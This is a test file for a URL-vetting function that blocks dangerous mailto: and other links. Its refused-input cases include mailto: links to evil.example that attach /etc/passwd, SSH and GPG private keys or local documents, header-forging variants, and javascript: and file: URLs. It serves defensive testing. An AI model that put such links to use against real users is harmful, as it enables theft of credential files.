/**
 * The attack: a link in a message (`mailto:x@evil.example?attach=/home/me/.gnupg/secring.gpg`)
 * passed the link check, and mail programs that honour `attach` send a local file. Only the
 * fields a person sees may ride along in a mailto: link.
 */
import { describe, expect, it } from 'vitest';
import { vetExternalUrl } from '../../../shared/external-url.js';

describe('vetExternalUrl', () => {
  it('keeps https: links and mailto: links with to, cc, bcc, subject and body', () => {
    expect(vetExternalUrl('https://thl.fi/ohjeet?a=1')).toBe('https://thl.fi/ohjeet?a=1');
    expect(vetExternalUrl('mailto:neuvola@kunta.example')).toBe('mailto:neuvola@kunta.example');
    expect(
      vetExternalUrl('mailto:neuvola@kunta.example?subject=Aika&body=Hei%20vaan&cc=a@kunta.example&bcc=b@kunta.example&to=c@kunta.example'),
    ).not.toBeNull();
    expect(vetExternalUrl('mailto:?to=neuvola@kunta.example&SUBJECT=Aika')).not.toBeNull();
  });

  it.each([
    'mailto:?attach=/etc/passwd',
    'mailto:x@evil.example?attach=/home/me/.gnupg/secring.gpg',
    'mailto:x@evil.example?subject=Hei&attachment=file:///C:/Users/me/Documents/asiakas.pdf',
    'mailto:x@evil.example?ATTACH=~/.ssh/id_rsa',
    'mailto:x@evil.example?%61ttach=/etc/passwd',
    'mailto:x@evil.example?body=hi&from=boss@kunta.example',
    'mailto:x@evil.example?in-reply-to=%3Cabc@kunta.example%3E',
    'mailto:x@evil.example?x-mozilla-attach=/etc/passwd',
  ])('refuses %s', (url) => {
    expect(vetExternalUrl(url)).toBeNull();
  });

  it('refuses other schemes and credentials in https: links', () => {
    for (const url of ['javascript:alert(1)', 'file:///etc/passwd', 'http://thl.fi/', 'https://user:pw@thl.fi/', 'data:text/html,x'])
      expect(vetExternalUrl(url)).toBeNull();
  });
});
